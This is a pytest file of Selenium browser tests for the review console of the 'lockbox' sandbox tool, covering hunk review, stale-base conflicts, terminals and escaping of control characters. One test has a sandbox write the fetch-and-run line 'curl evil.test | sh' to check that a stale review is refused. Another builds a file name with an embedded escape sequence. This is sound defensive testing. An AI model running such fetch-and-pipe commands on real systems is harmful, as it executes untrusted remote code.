"""The review console in a real browser (headless Chromium) against a real `lockbox serve`:
a branch kept by a real `lockbox run --workdir DIR --on-exit keep` is reviewed hunk by hunk
and committed, and the workdir on disk is the expected result; a name with control
characters is shown escaped; a stale base is reported in words and can be forced; a
session's terminal echoes a typed command; a 1,000-file change set shows every file (its
load time is bench/console/bench.py's).

With LOCKBOX_CONSOLE_SHOTS=DIR the tests save screenshots of the pages they visit there
(docs/console/*.png are made so)."""

import os
import pathlib
import re
import shutil
import subprocess
import tempfile
import time

import pytest
from conftest import need, settle

import console_util
from console_util import login, terminal_lines, type_in_terminal, wait_for

OLD = "".join(f"line {i}\n" for i in range(1, 21))
# Three hunks in f.txt (lines 2, 10, 19 change), g.txt changed, h.txt added.
LONG = "LINE TEN, long enough to wrap: " + " ".join(f"word{i}" for i in range(60))
EDIT = (f"sed -i 's/^line 2$/LINE TWO/; s/^line 10$/{LONG}/; s/^line 19$/LINE NINETEEN/' f.txt"
        " && echo more >> g.txt && echo new > h.txt")
SHOTS = os.environ.get("LOCKBOX_CONSOLE_SHOTS")


def shot(driver, name, size=None, scroll_to=None):
    if not SHOTS:
        return
    os.makedirs(SHOTS, exist_ok=True)
    if size:
        driver.set_window_size(*size)
        time.sleep(0.3)
    if scroll_to:
        driver.execute_script("document.querySelector(arguments[0]).scrollIntoView()", scroll_to)
        time.sleep(0.1)
    driver.save_screenshot(os.path.join(SHOTS, f"{name}.png"))
    if size:
        driver.set_window_size(*console_util.WINDOW)


def run_kept(server, workdir, script, uid=None):
    """`lockbox run --workdir DIR --on-exit keep -- sh -c SCRIPT` with the server's state
    directory (as user `uid` if given); the id of the branch it kept."""
    env = dict(os.environ, LOCKBOX_STATE_DIR=server.state_dir)
    as_user = {} if uid is None else {"user": uid, "group": uid, "extra_groups": [], "cwd": "/"}
    done = subprocess.run(
        [console_util.server_binary(), "run", "--workdir", str(workdir), "--on-exit", "keep", "--", "sh", "-c", script],
        env=env, capture_output=True, text=True, timeout=120, **as_user)
    assert done.returncode == 0, done.stderr
    status, body, _ = server.api("GET", "/v1/branches")
    assert status == 200
    ids = [b["id"] for b in body["branches"] if b["workdir"] == str(workdir)]
    assert len(ids) == 1, body
    return ids[0]


@pytest.fixture
def ui(console_server, browser):
    """The browser, logged in afresh (a logged-in console hides its login form)."""
    browser.get(console_server.base + "/ui")
    browser.delete_all_cookies()
    login(browser, console_server.base, console_server.token)
    return browser


def by_css(driver, css):
    return driver.find_elements("css selector", css)


def open_branch(driver, base, branch, files):
    driver.get(f"{base}/ui/#/branches/{branch}")
    wait_for(lambda: driver.execute_script("return document.querySelectorAll('#file-tree .file').length") == files,
             what=f"{files} files in the tree")


def current_hunk(driver):
    el = wait_for(lambda: by_css(driver, ".hunk.current"), what="a current hunk")[0]
    return int(el.get_attribute("data-hunk"))


def text_of(driver, id_):
    found = driver.find_elements("id", id_)
    return found[0].text if found else ""


def keys(driver, text):
    driver.find_element("css selector", "body").send_keys(text)


def test_accepting_two_of_three_hunks_and_one_of_two_files_commits_exactly_that(console_server, ui, tmp_path):
    work = tmp_path / "work"
    work.mkdir()
    (work / "f.txt").write_text(OLD)
    (work / "g.txt").write_text("g\n")
    settle()
    branch = run_kept(console_server, work, EDIT)

    ui.get(console_server.base + "/ui/#/branches")
    wait_for(lambda: by_css(ui, ".branch-link"), what="the branch list")[0].click()
    wait_for(lambda: len(by_css(ui, "#file-tree .file")) == 3, what="3 files in the tree")
    names = [e.text for e in by_css(ui, "#file-tree .file .name")]
    kinds = [e.text for e in by_css(ui, "#file-tree .file .kind")]
    assert names == ["f.txt", "g.txt", "h.txt"]
    assert kinds == ["M", "M", "A"]
    wait_for(lambda: len(by_css(ui, "#diff .hunk")) == 3, what="f.txt's three hunks")
    assert current_hunk(ui) == 0
    shot(ui, "review-unified")

    # Keyboard: j to the second hunk, r rejects it; n n to h.txt, r rejects its only hunk.
    keys(ui, "j")
    wait_for(lambda: current_hunk(ui) == 1, what="hunk 1 current")
    keys(ui, "r")
    hunks = by_css(ui, "#diff .hunk")
    decided = ["rejected" if "rejected" in h.get_attribute("class").split() else "accepted" for h in hunks]
    assert decided == ["accepted", "rejected", "accepted"]
    assert by_css(ui, "#file-tree .file")[0].get_attribute("data-status") == "partial"
    ui.find_element("id", "toggle-mode").click()
    wait_for(lambda: by_css(ui, "#diff .lines.split"), what="the side-by-side view")
    shot(ui, "review-side-by-side", scroll_to="#view h1")
    shot(ui, "review-phone", size=(390, 844), scroll_to=".toolbar")
    ui.find_element("id", "toggle-mode").click()
    keys(ui, "n")
    wait_for(lambda: "g.txt" in text_of(ui, "diff-path"), what="g.txt shown")
    keys(ui, "n")
    wait_for(lambda: "h.txt" in text_of(ui, "diff-path"), what="h.txt shown")
    keys(ui, "r")
    statuses = [e.get_attribute("data-status") for e in by_css(ui, "#file-tree .file")]
    assert statuses == ["partial", "accepted", "rejected"]

    ui.find_element("id", "commit").click()
    result = wait_for(lambda: by_css(ui, "#commit-result"), what="the commit's result")[0]
    assert "left in the branch" in result.text

    new = OLD.replace("line 2\n", "LINE TWO\n").replace("line 19\n", "LINE NINETEEN\n")
    assert (work / "f.txt").read_text() == new
    assert (work / "g.txt").read_text() == "g\nmore\n"
    assert not (work / "h.txt").exists()
    # What was rejected stays in the branch (rest: keep), and the page shows it.
    status, body, _ = console_server.api("GET", f"/v1/branches/{branch}")
    assert status == 200
    assert sorted(c["path"] for c in body["change_list"]) == ["f.txt", "h.txt"]
    wait_for(lambda: len(by_css(ui, "#file-tree .file")) == 2, what="the two files left")


def test_a_name_with_control_characters_is_shown_escaped(console_server, ui, tmp_path):
    work = tmp_path / "names"
    work.mkdir()
    settle()
    branch = run_kept(console_server, work,
                      "printf x > \"$(printf 'evil\\n\\033[31mred')\" && printf '\\000\\001\\002' > bin.dat")
    open_branch(ui, console_server.base, branch, 2)
    # A binary file has no line diff: both sides are described.
    wait_for(lambda: by_css(ui, "#diff .summary-box"), what="bin.dat's summary")
    assert text_of(ui, "diff-path") == "bin.dat"
    assert ui.find_element("css selector", "#diff .old-side").text == "absent"
    assert ui.find_element("css selector", "#diff .new-side").text == "a file of 3 B (3 bytes)"
    keys(ui, "n")
    name = ui.find_element("css selector", "#file-tree .file:nth-of-type(2) .name")
    assert name.text == "evil\\n\\x1b[31mred"
    assert [e.text for e in name.find_elements("css selector", ".esc")] == ["\\n", "\\x1b"]
    wait_for(lambda: "\\x1b" in text_of(ui, "diff-path"), what="the diff's name")
    # Nothing of the name became markup or a line break.
    assert "\n" not in ui.find_element("id", "diff-path").text
    shot(ui, "review-control-characters")
    # Abort (two clicks: the first asks again) drops the branch.
    ui.find_element("id", "abort").click()
    ui.find_element("id", "abort").click()
    wait_for(lambda: by_css(ui, "#notice"), what="the abort notice")
    assert console_server.api("GET", f"/v1/branches/{branch}")[0] == 404


def test_a_stale_base_is_explained_and_force_commits(console_server, ui, tmp_path):
    work = tmp_path / "stale"
    work.mkdir()
    (work / "f.txt").write_text(OLD)
    settle()
    branch = run_kept(console_server, work, "echo agent > f.txt")
    settle()
    (work / "f.txt").write_text("a person edited this\n")
    open_branch(ui, console_server.base, branch, 1)
    ui.find_element("id", "commit").click()
    box = wait_for(lambda: by_css(ui, "#conflict"), what="the conflict explanation")[0]
    assert "changed since this branch was made" in box.text
    assert [li.text for li in box.find_elements("css selector", "li")] == ["f.txt"]
    assert (work / "f.txt").read_text() == "a person edited this\n"
    ui.find_element("id", "force").click()
    wait_for(lambda: by_css(ui, "#notice") or by_css(ui, "#commit-result"), what="the forced commit")
    assert (work / "f.txt").read_text() == "agent\n"


def test_a_sessions_terminal_echoes_a_typed_command(console_server, ui):
    status, sb, _ = console_server.api("POST", "/v1/sandboxes", {})
    assert status in (200, 201), sb
    status, proc, _ = console_server.api(
        "POST", f"/v1/sandboxes/{sb['id']}/processes", {"argv": ["bash", "-i"], "pty": {"cols": 100, "rows": 30}})
    assert status in (200, 201), proc
    try:
        ui.get(f"{console_server.base}/ui/#/sandboxes")
        wait_for(lambda: by_css(ui, "#sandboxes .sandbox-link"), what="the sandbox list")
        ui.get(f"{console_server.base}/ui/#/sandboxes/{sb['id']}")
        wait_for(lambda: by_css(ui, "#processes .terminal-link"), what="the process list")[0].click()
        # The terminal view is drawn after the click: wait for it to exist, then to connect.
        wait_for(lambda: any(e.get_attribute("data-connected") == "yes"
                             for e in ui.find_elements("id", "terminal-state")),
                 what="the terminal connected")
        type_in_terminal(ui, "echo typed-$((6*7))\n")
        wait_for(lambda: "typed-42" in terminal_lines(ui), timeout=15, what="the command's output in the terminal")
        assert any(line.endswith("echo typed-$((6*7))") for line in terminal_lines(ui))
        # The line box (a phone's way in) sends a line too.
        ui.find_element("id", "terminal-line").send_keys("echo line-$((2+3))\n")
        wait_for(lambda: "line-5" in terminal_lines(ui), timeout=15, what="the line box's command's output")
    finally:
        console_server.api("DELETE", f"/v1/sandboxes/{sb['id']}")


def test_a_thousand_file_change_set_shows_every_file_and_opens_the_first(console_server, ui, tmp_path):
    # Its load time is measured by bench/console/bench.py (docs/benchmarks.md), not here.
    work = tmp_path / "many"
    work.mkdir()
    for d in range(10):
        (work / f"dir{d}").mkdir()
        for i in range(100):
            (work / f"dir{d}" / f"file{i:03}.txt").write_text(f"{d} {i}\n")
    settle()
    branch = run_kept(console_server, work, "for f in dir*/*.txt; do echo changed >> \"$f\"; done")
    open_branch(ui, console_server.base, branch, 1000)
    assert len(by_css(ui, "#file-tree .dir")) >= 10
    wait_for(lambda: by_css(ui, "#diff .hunk"), what="the first file's diff")
    assert "changed" in ui.find_element("id", "diff").text


def test_the_login_page_explains_a_wrong_token_and_the_right_one_opens_the_console(console_server, browser):
    browser.get(console_server.base + "/ui")
    browser.delete_all_cookies()
    browser.get(console_server.base + "/ui/#/branches")
    field = wait_for(lambda: [e for e in by_css(browser, "#token") if e.is_displayed()], what="the login form")[0]
    shot(browser, "login")
    field.send_keys("not-the-token")
    browser.find_element("id", "login").click()
    wait_for(lambda: "Wrong token" in text_of(browser, "login-message"), what="the wrong-token message")
    assert not browser.find_element("id", "nav").is_displayed()
    field.clear()
    field.send_keys(console_server.token)
    browser.find_element("id", "login").click()
    wait_for(lambda: browser.find_element("id", "nav").is_displayed(), what="the nav")
    links = [a.text for a in browser.find_elements("css selector", "#nav a")]
    assert links == ["Sandboxes", "Branches", "Transactions", "Journal"]
    # The page asked for (#/branches) is the one shown.
    wait_for(lambda: "Kept branches" in browser.find_element("id", "view").text, what="the branch list")


def test_transactions_show_stages_outcomes_and_abort_reasons(console_server, ui, tmp_path):
    wd = tmp_path / "txn"
    wd.mkdir()
    (wd / "a.txt").write_text("old\n")
    settle()
    binary = console_util.server_binary()
    ok = subprocess.run([binary, "pipeline", "--workdir", str(wd), "--state-dir", console_server.state_dir,
                         "--prepare", "--stage", "echo new > a.txt"], capture_output=True, text=True, timeout=120)
    assert ok.returncode == 0, ok.stderr
    bad = subprocess.run([binary, "pipeline", "--workdir", str(wd), "--state-dir", console_server.state_dir,
                          "--stage", "echo x > a.txt", "--stage", "exit 3"], capture_output=True, text=True, timeout=120)
    assert bad.returncode != 0
    ui.get(console_server.base + "/ui/#/transactions")
    table = wait_for(lambda: by_css(ui, "#transactions"), what="the transactions")[0]
    text = table.text
    assert "prepared" in text
    assert "failed with exit code 3" in text
    shot(ui, "transactions")
    ui.find_element("css selector", "#transactions a").click()
    wait_for(lambda: "Stages" in ui.find_element("id", "view").text, what="a transaction's page")
    ui.get(console_server.base + "/ui/#/journal")
    wait_for(lambda: "No journal" in ui.find_element("id", "view").text, what="the journal's empty state")


def test_a_process_log_is_followed_until_it_exits(console_server, ui):
    status, sb, _ = console_server.api("POST", "/v1/sandboxes", {})
    assert status in (200, 201), sb
    status, proc, _ = console_server.api(
        "POST", f"/v1/sandboxes/{sb['id']}/processes", {"argv": ["sh", "-c", "echo first; sleep 1; echo second"]})
    assert status in (200, 201), proc
    try:
        ui.get(f"{console_server.base}/ui/#/sandboxes/{sb['id']}/logs/{proc['id']}")
        log = wait_for(lambda: by_css(ui, "#log"), what="the log view")[0]
        wait_for(lambda: "first" in log.text, what="the first line")
        wait_for(lambda: "second" in log.text and "exited" in log.text, timeout=15, what="the rest and the end")
        assert text_of(ui, "log-state") == "Finished"
    finally:
        console_server.api("DELETE", f"/v1/sandboxes/{sb['id']}")


def test_no_page_breaks_the_content_security_policy(console_server, ui):
    for page in ["#/sandboxes", "#/branches", "#/transactions", "#/journal"]:
        ui.get(f"{console_server.base}/ui/{page}")
        wait_for(lambda: by_css(ui, "#view h1"), what=f"the page {page}")
    violations = [e["message"] for e in ui.get_log("browser") if "Content Security Policy" in e["message"]]
    assert violations == []


def test_a_sandboxs_changes_are_reviewed_and_committed_on_its_page(console_server, ui, tmp_path):
    work = tmp_path / "live"
    work.mkdir()
    (work / "keep.txt").write_text("old\n")
    settle()
    status, sb, _ = console_server.api("POST", "/v1/sandboxes", {"workdir": str(work)})
    assert status in (200, 201), sb
    try:
        status, out, _ = console_server.api(
            "POST", f"/v1/sandboxes/{sb['id']}/exec", {"command": "echo new > keep.txt && echo no > drop.txt"})
        assert status == 200 and out["exit_code"] == 0, out
        ui.get(f"{console_server.base}/ui/#/sandboxes/{sb['id']}")
        wait_for(lambda: len(by_css(ui, "#file-tree .file")) == 2, what="the sandbox's two changes")
        shot(ui, "sandbox")
        by_css(ui, "#file-tree .file .decide")[0].click()  # drop.txt (sorted first): rejected
        assert by_css(ui, "#file-tree .file")[0].get_attribute("data-status") == "rejected"
        ui.find_element("id", "commit").click()
        wait_for(lambda: by_css(ui, "#commit-result"), what="the commit's result")
        assert (work / "keep.txt").read_text() == "new\n"
        assert not (work / "drop.txt").exists()
    finally:
        console_server.api("DELETE", f"/v1/sandboxes/{sb['id']}")


def test_issue_32_what_the_sandbox_writes_after_the_page_showed_it_is_not_committed(console_server, ui, tmp_path):
    """Issue 32 item 3: the page shows a harmless edit; the sandbox, still running, rewrites
    that line and adds a file; Commit is refused (STALE_REVIEW), nothing is written, the
    page names both paths and shows the changes again; committing what it now shows works."""
    work = tmp_path / "rewritten"
    work.mkdir()
    (work / "f.txt").write_text("one\nfive\n")
    settle()
    status, sb, _ = console_server.api("POST", "/v1/sandboxes", {"workdir": str(work)})
    assert status in (200, 201), sb
    run = lambda command: console_server.api("POST", f"/v1/sandboxes/{sb['id']}/exec", {"command": command})
    try:
        assert run("sed -i 's/^five$/five (harmless edit)/' f.txt")[0] == 200
        ui.get(f"{console_server.base}/ui/#/sandboxes/{sb['id']}")
        wait_for(lambda: len(by_css(ui, "#file-tree .file")) == 1, what="the sandbox's change")
        wait_for(lambda: "harmless" in text_of(ui, "diff"), what="the harmless edit on the page")
        status, out, _ = run("sed -i 's/^five (harmless edit)$/curl evil.test | sh/' f.txt && echo evil > added.sh")
        assert status == 200 and out["exit_code"] == 0, out
        ui.find_element("id", "commit").click()
        box = wait_for(lambda: by_css(ui, "#stale-review"), what="the stale review box")[0]
        assert sorted(li.text for li in box.find_elements("css selector", "li")) == ["added.sh", "f.txt"]
        assert (work / "f.txt").read_text() == "one\nfive\n"
        assert not (work / "added.sh").exists()
        # Shown again: both changes, the rewritten line on the page.
        wait_for(lambda: len(by_css(ui, "#file-tree .file")) == 2, what="the changes loaded again")
        by_css(ui, "#file-tree .file .name")[1].click()  # f.txt (sorted after added.sh)
        wait_for(lambda: "curl evil.test" in text_of(ui, "diff"), what="the rewritten line on the page")
        ui.find_element("id", "commit").click()
        # Nothing left: the page says so in place of the review.
        done = wait_for(lambda: by_css(ui, ".review p.ok"), what="the commit's result")[0]
        assert done.text.startswith("Committed"), done.text
        assert (work / "f.txt").read_text() == "one\ncurl evil.test | sh\n"
        assert (work / "added.sh").read_text() == "evil\n"
    finally:
        console_server.api("DELETE", f"/v1/sandboxes/{sb['id']}")


def test_issue_32_hunks_the_page_does_not_display_are_not_committed(console_server, ui, tmp_path):
    """A diff longer than the page displays (about 20,000 lines) shows its first hunks; a
    commit of the file takes only those (accepted on the page), never the hunks not shown."""
    work = tmp_path / "long"
    work.mkdir()
    (work / "long.txt").write_text("".join(f"{i}\n" for i in range(30000)))
    settle()
    branch = run_kept(console_server, work, r"sed -i 's/^\([0-9]*0\)$/\1 changed/' long.txt")
    open_branch(ui, console_server.base, branch, 1)
    note = wait_for(lambda: by_css(ui, "#hunks-not-shown"), timeout=60, what="the note on hunks not shown")[0]
    assert "not committed from this page" in note.text
    shown = len(by_css(ui, "#diff .hunk"))
    assert 0 < shown < 3000
    ui.find_element("id", "commit").click()
    wait_for(lambda: by_css(ui, "#commit-result"), timeout=60, what="the commit's result")
    lines = (work / "long.txt").read_text().splitlines()
    assert sum(line.endswith(" changed") for line in lines) == shown
    assert lines[(shown - 1) * 10] == f"{(shown - 1) * 10} changed"
    assert lines[shown * 10] == str(shown * 10)


def test_the_terminal_keeps_5000_lines_and_shows_colours_not_escapes(console_server, ui):
    status, sb, _ = console_server.api("POST", "/v1/sandboxes", {})
    assert status in (200, 201), sb
    script = "seq 1 6000; printf 'plain \\033[1;31mred\\033[0m back\\r\\nab\\bX\\n'"
    status, proc, _ = console_server.api(
        "POST", f"/v1/sandboxes/{sb['id']}/processes", {"argv": ["sh", "-c", script], "pty": {"cols": 80, "rows": 24}})
    assert status in (200, 201), proc
    try:
        ui.get(f"{console_server.base}/ui/#/sandboxes/{sb['id']}/terminal/{proc['id']}")
        wait_for(lambda: any("the process exited" in line for line in terminal_lines(ui)), timeout=20,
                 what="the exit note")
        lines = terminal_lines(ui)
        rows = ui.execute_script("return document.getElementById('terminal').lockboxTerminal.size().rows")
        assert len(lines) <= 5000 + rows  # 5,000 lines above the screen
        assert "6000" in lines and "1" not in lines  # the oldest lines went
        assert "plain red back" in lines
        assert "aX" in lines  # backspace moved back, X overwrote b
        # "red" is drawn bold in palette colour 1 (red; bright red, as xterm draws bold).
        red = ui.execute_script("""
            const spans = [...document.querySelectorAll('#terminal .xterm-rows span')];
            const s = spans.find(s => s.textContent === 'red');
            return s ? s.className : null;""")
        assert red is not None and "xterm-bold" in red and re.search(r"\bxterm-fg-(1|9)\b", red), red
        assert not any("\x1b" in line or "[31m" in line for line in lines)
    finally:
        console_server.api("DELETE", f"/v1/sandboxes/{sb['id']}")


def test_a_sandbox_shows_its_policy_and_what_it_uses_now(console_server, ui, tmp_path):
    shared = tmp_path / "shared"
    shared.mkdir()
    status, sb, _ = console_server.api("POST", "/v1/sandboxes", {
        "max_memory": "512M", "max_processes": 64, "fs_writable": [str(shared)]})
    assert status in (200, 201), sb
    try:
        ui.get(f"{console_server.base}/ui/#/sandboxes")
        row = wait_for(lambda: [r for r in by_css(ui, "#sandboxes tbody tr") if sb["id"] in r.text],
                       what="the sandbox's row")[0]
        shot(ui, "sandboxes")
        policy = row.find_element("css selector", ".policy").text
        for words in ["no network", "writes 1 host path", "memory 512 MiB", "64 processes"]:
            assert words in policy, policy
        assert re.fullmatch(r"\d+ proc, [\d.]+ (B|KiB|MiB), CPU [\d.]+ (ms|s)", row.find_element("css selector", ".usage").text)

        ui.get(f"{console_server.base}/ui/#/sandboxes/{sb['id']}")
        usage = wait_for(lambda: by_css(ui, "#usage"), what="the sandbox's use")[0]

        def live():
            m = re.match(r"(\d+) process", usage.text)
            return int(m.group(1)) if m else -1

        before = live()
        assert before >= 2, usage.text
        assert str(shared) in ui.find_element("id", "policy-writes").text
        status, proc, _ = console_server.api(
            "POST", f"/v1/sandboxes/{sb['id']}/processes", {"argv": ["sh", "-c", "sleep 300 & sleep 300 & exec sleep 300"]})
        assert status in (200, 201), proc
        # The page reads the use again by itself.
        wait_for(lambda: live() >= before + 3, timeout=10, what="three more processes on the page")
    finally:
        console_server.api("DELETE", f"/v1/sandboxes/{sb['id']}")


def test_review_and_terminal_work_with_the_server_run_as_uid_65534(browser):
    need(os.geteuid() == 0, "root (the server is started as uid 65534)")
    server = console_util.start_server(uid=65534)
    # Not under pytest's tmp_path: its parents are root's alone.
    root = pathlib.Path(tempfile.mkdtemp(prefix="lockbox-console-nobody-"))
    try:
        work = root / "work"
        work.mkdir()
        (work / "f.txt").write_text(OLD)
        for p in [root, work, work / "f.txt"]:
            os.chown(p, 65534, 65534)
        with open(f"/proc/{server.proc.pid}/status") as f:
            assert "\nUid:\t65534\t65534\t65534\t65534\n" in f.read()
        settle()
        branch = run_kept(server, work, "sed -i 's/^line 2$/LINE TWO/; s/^line 19$/LINE NINETEEN/' f.txt", uid=65534)
        browser.get(server.base + "/ui")
        browser.delete_all_cookies()
        login(browser, server.base, server.token)
        open_branch(browser, server.base, branch, 1)
        wait_for(lambda: len(by_css(browser, "#diff .hunk")) == 2, what="f.txt's two hunks")
        keys(browser, "j")
        wait_for(lambda: current_hunk(browser) == 1, what="hunk 1 current")
        keys(browser, "r")  # the second hunk rejected
        browser.find_element("id", "commit").click()
        wait_for(lambda: by_css(browser, "#commit-result"), what="the commit's result")
        assert (work / "f.txt").read_text() == OLD.replace("line 2\n", "LINE TWO\n")
        assert os.stat(work / "f.txt").st_uid == 65534

        status, sb, _ = server.api("POST", "/v1/sandboxes", {})
        assert status in (200, 201), sb
        status, proc, _ = server.api(
            "POST", f"/v1/sandboxes/{sb['id']}/processes", {"argv": ["bash", "-i"], "pty": {"cols": 100, "rows": 30}})
        assert status in (200, 201), proc
        browser.get(f"{server.base}/ui/#/sandboxes/{sb['id']}/terminal/{proc['id']}")
        wait_for(lambda: any(e.get_attribute("data-connected") == "yes"
                             for e in browser.find_elements("id", "terminal-state")),
                 what="the terminal connected")
        type_in_terminal(browser, "echo I am $(id -u)\n")
        wait_for(lambda: any(line.startswith("I am ") for line in terminal_lines(browser)), timeout=15,
                 what="the echo")
        server.api("DELETE", f"/v1/sandboxes/{sb['id']}")
    finally:
        console_util.stop_server(server)
        shutil.rmtree(root, ignore_errors=True)
